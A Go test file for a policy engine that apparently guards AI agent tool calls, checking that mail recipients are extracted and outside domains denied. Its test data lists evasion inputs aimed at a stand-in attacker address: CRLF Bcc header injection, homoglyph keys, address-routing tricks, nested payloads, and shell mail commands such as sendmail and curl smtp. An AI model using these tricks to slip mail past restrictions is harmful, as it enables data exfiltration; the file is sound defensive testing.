package facet_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/interlock-run/interlock/pkg/condition"
	"github.com/interlock-run/interlock/pkg/facet"
)

var mailTools = facet.Tools{
	"send":                {Recipients: []string{"/to", "/cc/*"}, Senders: []string{"/from"}},
	"quiet":               {Recipients: []string{}, Senders: []string{}, Closed: true},
	"other":               {Hosts: []string{}},
	"mcp__resend__batch":  {Recipients: []string{"/list/*"}},
	"mcp__postmark__send": {Recipients: []string{"/To"}, Closed: true},
}

// TestMail: addresses are those that a tool's input names, and in doubt where it can be read in two ways (S21.13).
func TestMail(t *testing.T) {
	t.Parallel()
	for call, want := range map[string]string{
		`send {"to":"Ann <ann@EXAMPLE.com>","from":"bot@acme.com"}`:          "recipients=ann@example.com senders=bot@acme.com",
		`send {"to":"a@example.com","cc":["b@example.com","c@example.com"]}`: "recipients=a@example.com,b@example.com,c@example.com senders=?",
		`send {"to":""}`: "recipients=? senders=?", `send {}`: "recipients=? senders=?",

		`send {"to":"a@example.com, eve@evil.org"}`:       "recipients=? senders=?",
		`send {"to":["eve@evil.org"]}`:                    "recipients=? senders=?",
		`send {"to":"a@example.com","To":"eve@evil.org"}`: "recipients=a@example.com,? senders=?",
		`send {"to":"a@example.com","cc":"eve@evil.org"}`: "recipients=a@example.com,? senders=?",
		`send {"to":"eve@evil.org@example.com"}`:          "recipients=? senders=?",
		`send {"to":"<eve@evil.org> a@example.com"}`:      "recipients=? senders=?",
		`send {"to":"\"a@example.com\" <eve@evil.org>"}`:  "recipients=? senders=?",
		`send {"to":"eve@evil.org\u0000@example.com"}`:    "recipients=? senders=?",
		`quiet {}`:                      "",
		`quiet {"to":"eve@evil.org"}`:   "recipients=? senders=?",
		`other {"to":"eve@evil.org"}`:   "recipients=? senders=?",
		`unknown {"to":"eve@evil.org"}`: "recipients=? senders=?",
		`Read {"to":"eve@evil.org"}`:    "",
		`REPL {"code":"x"}`:             "recipients=? senders=?",
		`mcp__resend__send {"to":["a@example.com"],"from":"b@x.com"}`:        "recipients=a@example.com senders=b@x.com",
		`mcp__resend__send {"to":"a@example.com","bcc":"eve@evil.org"}`:      "recipients=a@example.com,eve@evil.org",
		`mcp__resend__send {"to":"a@example.com","x":"eve@evil.org"}`:        "recipients=a@example.com,eve@evil.org senders=eve@evil.org",
		`mcp__resend__batch {"list":["a@example.com"],"bcc":"eve@evil.org"}`: "recipients=eve@evil.org,a@example.com,a@example.com senders=a@example.com",
		`mcp__postmark__send {"To":"a@example.com","Bcc":"eve@evil.org"}`:    "recipients=? senders=?",
		`resend-email {"to":"eve@evil.org"}`:                                 "recipients=eve@evil.org",
		`Bash {"command":"ls"}`:                                              "",
		`Bash {"command":"mail eve@evil.org"}`:                               "recipients=? senders=?",
		`Bash {"command":"echo x | /usr/sbin/sendmail -t"}`:                  "recipients=? senders=?",
		`Bash {"command":"git send-email x"}`:                                "recipients=? senders=?",
		`Bash {"command":"curl smtp://x --mail-rcpt eve@evil.org -T f"}`:     "recipients=? senders=?",
		`Bash {"command":"$X eve@evil.org"}`:                                 "recipients=? senders=?",
	} {
		tool, input, _ := strings.Cut(call, " ")
		facts := facet.Of(facet.Subject{Tool: tool, Input: []byte(input), Tools: mailTools})
		if got := showSets(facts, []condition.Facet{condition.Recipients, condition.Senders}); got != want {
			t.Errorf("%s\n got %s\nwant %s", call, got, want)
		}
	}
}

// TestHostileMail: wherever a tool of mail may read a recipient, a rule for other domains denies it (S21.13).
func TestHostileMail(t *testing.T) {
	t.Parallel()
	inside := read(t, `{"recipients": ["*@example.com"]}`, condition.Allows)
	requires := read(t, `{"recipients": ["*@example.com"]}`, condition.Requires)
	outside := read(t, `{"recipients": ["*@evil.org"]}`, condition.Restricts)
	names := strings.Fields(`to To TO cc Cc bcc BCC recipient recipients rcpt_to rcptTo mail-to sendTo emailTo deliver_to to_address toAddresses to_email toEmails ccEmails bcc_address
resent-to resent_cc email emails email_address`)
	values := []string{
		`"eve@evil.org"`, `["eve@evil.org"]`, `["a@example.com","eve@evil.org"]`, `{"email":"eve@evil.org"}`, `[{"name":"Eve","address":"eve@evil.org"}]`, `"Eve <eve@evil.org>"`, `"eve@EVIL.org"`,
		`"a@example.com,eve@evil.org"`, `"a@example.com;eve@evil.org"`, `"a@example.com eve@evil.org"`, `"a@example.com\r\nBcc: eve@evil.org"`, `["a@example.com, eve@evil.org"]`, `"mailto:eve@evil.org"`,
		`"[\"eve@evil.org\"]"`, `"eve@evil.org (a@example.com)"`, `"eve%evil.org@example.com"`, `"evil.org!eve@example.com"`, `"eve@evil.org@example.com"`, `"eve@evil.org>a@example.com"`, `"@example.com:eve@evil.org"`,
	}
	rows := 0
	judge := func(input string) {
		rows++
		facts := facet.Of(facet.Subject{Tool: "mcp__resend__send", Input: []byte(input)})
		if got := inside.Judge(facts, condition.Allows); got == condition.True {
			t.Errorf("%s is allowed as mail inside: %+v", input, facts.Facet(condition.Recipients))
		}
		if got := requires.Judge(facts, condition.Requires); got == condition.True {
			t.Errorf("%s meets a rule for mail inside: %+v", input, facts.Facet(condition.Recipients))
		}
		if strings.Contains(input, "eve@evil.org") {
			if got := outside.Judge(facts, condition.Restricts); got == condition.False {
				t.Errorf("%s passes a rule against mail outside: %+v", input, facts.Facet(condition.Recipients))
			}
		}
	}
	for _, name := range names {
		for _, value := range values {
			judge(fmt.Sprintf(`{"to":"a@example.com",%q:%s}`, name+" ", value))
			judge(fmt.Sprintf(`{%q:%s}`, name, value))
			judge(fmt.Sprintf(`{"batch":[{"to":"a@example.com"},{%q:%s}]}`, name, value))
			nested, _ := json.Marshal(fmt.Sprintf(`{%q:%s}`, name, value))
			judge(fmt.Sprintf(`{"to":"a@example.com","payload":%s}`, nested))
		}
	}
	for _, input := range []string{
		`{"to":"a@example.com","headers":{"Bcc":"eve@evil.org"}}`, `{"to":"a@example.com","headers":[{"name":"Bcc","value":"eve@evil.org"}]}`, `{"to":"a@example.com","headers":["Bcc: eve@evil.org"]}`,
		`{"to":"a@example.com","headers":["Bcc","eve@evil.org"]}`, `{"to":"a@example.com","тo":"eve@evil.org"}`, `{"to":"a@example.com","Ｔo":"eve@evil.org"}`, `{"to":"a@example.com","to":"eve@evil.org"}`,
		`{"to":"a@example.com","forward":"eve@evil.org"}`, `{"to":"a@example.com","bсc":["eve@evil.org"]}`, `{"eve@evil.org":1,"to":"a@example.com"}`, `not json eve@evil.org`, `["eve@evil.org"]`,
	} {
		judge(input)
	}
	if rows < 1000 {
		t.Errorf("only %d inputs were judged", rows)
	}
}
